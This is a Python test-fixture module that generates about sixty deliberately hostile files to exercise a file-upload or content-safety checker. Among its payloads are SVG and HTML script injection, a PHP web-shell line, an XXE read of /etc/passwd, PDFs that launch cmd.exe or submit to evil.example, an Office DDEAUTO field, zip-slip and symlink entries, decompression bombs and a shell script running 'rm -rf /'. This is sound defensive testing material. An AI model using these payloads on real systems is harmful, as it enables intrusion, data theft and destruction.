"""Sixty malicious files, each generated here, and benign files that resemble them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from PIL import Image


class Made(NamedTuple):
    label: str
    name: str
    data: bytes


SCRIPT = b"<script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><title>x</title>" + SCRIPT
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/{part}" ContentType="{kind}"/></Types>'
)
RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
ODT = "application/vnd.oasis.opendocument.text"


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (120, 80, 40)).save(out, kind, **options)
    return out.getvalue()


def archive(parts: dict[str, bytes | str], change: Callable[[zipfile.ZipFile], None] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED)
        if change:
            change(made)
    return out.getvalue()


def docx(more: dict | None = None, *, body: str = "<w:p/>", change=None, kind: str = WORD) -> bytes:
    document = f'<w:document xmlns:w="urn:w"><w:body>{body}</w:body></w:document>'
    parts = {"[Content_Types].xml": TYPES.format(part="word/document.xml", kind=kind)}
    parts |= {"_rels/.rels": RELS.format(""), "word/document.xml": document} | (more or {})
    return archive(parts, change)


def xlsx(more: dict | None = None, *, sheet: str = "<worksheet/>", change=None) -> bytes:
    parts = {"[Content_Types].xml": TYPES.format(part="xl/workbook.xml", kind=SHEET)}
    parts |= {
        "_rels/.rels": RELS.format(""),
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": sheet,
    }
    return archive(parts | (more or {}), change)


def odt(more: dict | None = None, *, content: str = "<office:document-content/>") -> bytes:
    return archive({"mimetype": ODT, "content.xml": content, "META-INF/manifest.xml": "<m/>"} | (more or {}))


def relation(kind: str, target: str) -> str:
    return RELS.format(
        f'<Relationship Id="r1" Type="{OFFICE_REL}{kind}" Target="{target}" TargetMode="External"/>'
    )


def pdf(change: Callable | None = None, **save) -> bytes:
    import pikepdf

    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    if change:
        change(made, pikepdf)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def _act(made, pikepdf, name: str, **facts):
    return made.make_indirect(
        pikepdf.Dictionary({"/S": pikepdf.Name(name)} | {f"/{k}": v for k, v in facts.items()})
    )


def _opening(name: str, **facts) -> bytes:
    def change(made, pikepdf):
        made.Root.OpenAction = _act(made, pikepdf, name, **facts)

    return pdf(change)


def _note(subtype: str) -> bytes:
    def change(made, pikepdf):
        note = pikepdf.Dictionary(
            {"/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name(subtype), "/Rect": [0, 0, 9, 9]}
        )
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])

    return pdf(change)


def _pdf_with_names(made, pikepdf) -> None:
    script = _act(made, pikepdf, "/JavaScript", JS="app.alert(1)")
    names = pikepdf.Array(["a", script])
    made.Root.Names = pikepdf.Dictionary({"/JavaScript": pikepdf.Dictionary({"/Names": names})})


def _pdf_with_file(made, pikepdf) -> None:
    made.attachments["evil.exe"] = b"MZ" + b"\0" * 100


def _pdf_with_form(made, pikepdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary({"/XFA": made.make_stream(b"<xdp/>"), "/Fields": pikepdf.Array()})


def _pdf_with_page_act(made, pikepdf) -> None:
    made.pages[0].AA = pikepdf.Dictionary({"/O": _act(made, pikepdf, "/JavaScript", JS="app.alert(1)")})


def flood(width: int = 60_000, height: int = 60_000) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def _link(made: zipfile.ZipFile) -> None:
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = 0o120777 << 16
    made.writestr(entry, "/etc/passwd")


def _twice(made: zipfile.ZipFile) -> None:
    entry = zipfile.ZipInfo("WORD/document.xml")
    made.writestr(entry, SCRIPT)


def _locked(data: bytes) -> bytes:
    """The bit that says "encrypted", in each entry of the directory and in front of each part."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(mark)
        while start >= 0:
            out[start + at] |= 1
            start = out.find(mark, start + 4)
    return bytes(out)


def _moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (9, 9), (n, n, n)) for n in (0, 200)]
    out = io.BytesIO()
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def hostile() -> list[Made]:
    return [
        Made(*each) for each in (*_markup(), *_pictures(), *_pdfs(), *_office(), *_archives(), *_programs())
    ]


def _markup() -> list[tuple[str, str, bytes]]:
    return [
        ("SVG by its ending", "plan.svg", SVG),
        ("SVG named PNG", "plan.png", SVG),
        ("SVG named text", "plan.txt", SVG),
        ("SVG behind an XML line", "plan.csv", b'<?xml version="1.0"?>' + SVG),
        ("SVG behind blanks", "a.txt", b"\n\n  " + SVG),
        ("SVG with a byte order mark", "a.txt", b"\xef\xbb\xbf" + SVG),
        ("SVG in UTF-16", "a.txt", SVG.decode().encode("utf-16")),
        ("HTML named text", "read.txt", HTML),
        ("HTML named PDF", "read.pdf", HTML),
        ("HTML with two endings", "read.html.txt", HTML),
        ("a script among words", "words.txt", b"Good day. " + SCRIPT),
        ("a frame in a table", "table.csv", b"a,b\n1,<iframe src=//evil.example>\n"),
        ("an XML entity", "a.txt", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
        ("PHP", "a.txt", b"<?php system($_GET['c']); ?>"),
    ]


def _pictures() -> list[tuple[str, str, bytes]]:
    return [
        ("a picture that is a script", "a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
        ("the same in letters only", "a.txt", b"GIF89a/*    */=1;alert(1)"),
        ("a moving picture", "a.gif", _moving("GIF")),
        ("a moving PNG", "a.png", _moving("PNG")),
        ("a flood of points", "a.png", flood()),
        ("the same, long and thin", "a.png", flood(2_000_000, 1_000)),
        ("only the first bytes of a PNG", "a.png", b"\x89PNG\r\n\x1a\n" + SCRIPT),
        ("a broken JPEG", "a.jpg", b"\xff\xd8\xff\xe0" + HTML),
        ("a bitmap", "a.bmp", picture("BMP")),
        ("a TIFF", "a.tiff", picture("TIFF")),
    ]


def _pdfs() -> list[tuple[str, str, bytes]]:
    import pikepdf

    locked = pikepdf.Encryption(owner="a", user="b")
    return [
        ("PDF with a script on opening", "a.pdf", _opening("/JavaScript", JS="app.alert(1)")),
        ("PDF that starts a program", "a.pdf", _opening("/Launch", F="cmd.exe")),
        ("PDF that sends a form", "a.pdf", _opening("/SubmitForm", F="https://evil.example")),
        ("PDF that opens another file", "a.pdf", _opening("/GoToR", F="//evil/share")),
        ("PDF with named scripts", "a.pdf", pdf(_pdf_with_names)),
        ("PDF with a file in it", "a.pdf", pdf(_pdf_with_file)),
        ("PDF with an XFA form", "a.pdf", pdf(_pdf_with_form)),
        ("PDF with an act of a page", "a.pdf", pdf(_pdf_with_page_act)),
        ("PDF with rich media", "a.pdf", _note("/RichMedia")),
        ("PDF with a file as a note", "a.pdf", _note("/FileAttachment")),
        ("PDF with a password", "a.pdf", pdf(encryption=locked)),
        ("PDF with an archive behind it", "a.pdf", pdf() + archive({"evil.js": "alert(1)"})),
        ("PDF behind a web page", "a.pdf", HTML + pdf()),
        ("half a PDF", "a.pdf", pdf()[:200]),
    ]  # fmt: skip


def _office() -> list[tuple[str, str, bytes]]:
    link = {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}
    dde = "<w:p><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:p>"
    script = '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'
    image = '<draw:image xlink:href="https://evil.example/a.png"/>'
    return [
        ("Word with macros", "a.docx", docx({"word/vbaProject.bin": b"\0"})),
        ("Word that says it has macros", "a.docx", docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("Word with a template elsewhere", "a.docx", docx(link)),
        ("Word with an embedded object", "a.docx", docx({"word/embeddings/oleObject1.bin": b"\0"})),
        ("Word with a command field", "a.docx", docx(body=dde)),
        ("a workbook with an SVG", "a.xlsx", xlsx({"xl/media/image1.svg": SVG})),
        ("a workbook with an SVG named PNG", "a.xlsx", xlsx({"xl/media/image1.png": SVG})),
        ("a workbook with links", "a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"})),
        ("ODT with a script", "a.odt", odt(content=f"<office:document-content>{script}</office:document-content>")),
        ("ODT with a picture from elsewhere", "a.odt", odt(content=f"<o>{image}</o>")),
        ("an old Word file", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    ]  # fmt: skip


def _archives() -> list[tuple[str, str, bytes]]:
    return [
        ("a part that climbs out", "a.docx", docx({"../../evil.xml": "x"})),
        ("a part that is a link", "a.docx", docx(change=_link)),
        ("a part that is there twice", "a.docx", docx(change=_twice)),
        ("a bomb", "a.xlsx", xlsx(sheet="<a>" + "0" * 30_000_000 + "</a>")),
        ("a locked archive", "a.docx", _locked(docx())),
        ("a plain archive", "a.zip", archive({"evil.exe": b"MZ"})),
        ("two archives in one", "a.docx", docx() + archive({"evil.js": "alert(1)"})),
    ]


def _programs() -> list[tuple[str, str, bytes]]:
    return [
        ("a program", "a.exe", b"MZ\x90\0" + b"\0" * 200),
        ("a program named PDF", "a.pdf", b"MZ\x90\0" + b"\0" * 200),
        ("a script of the shell", "a.txt", b"#!/bin/sh\nrm -rf /\n"),
        ("nothing at all", "a.txt", b""),
    ]
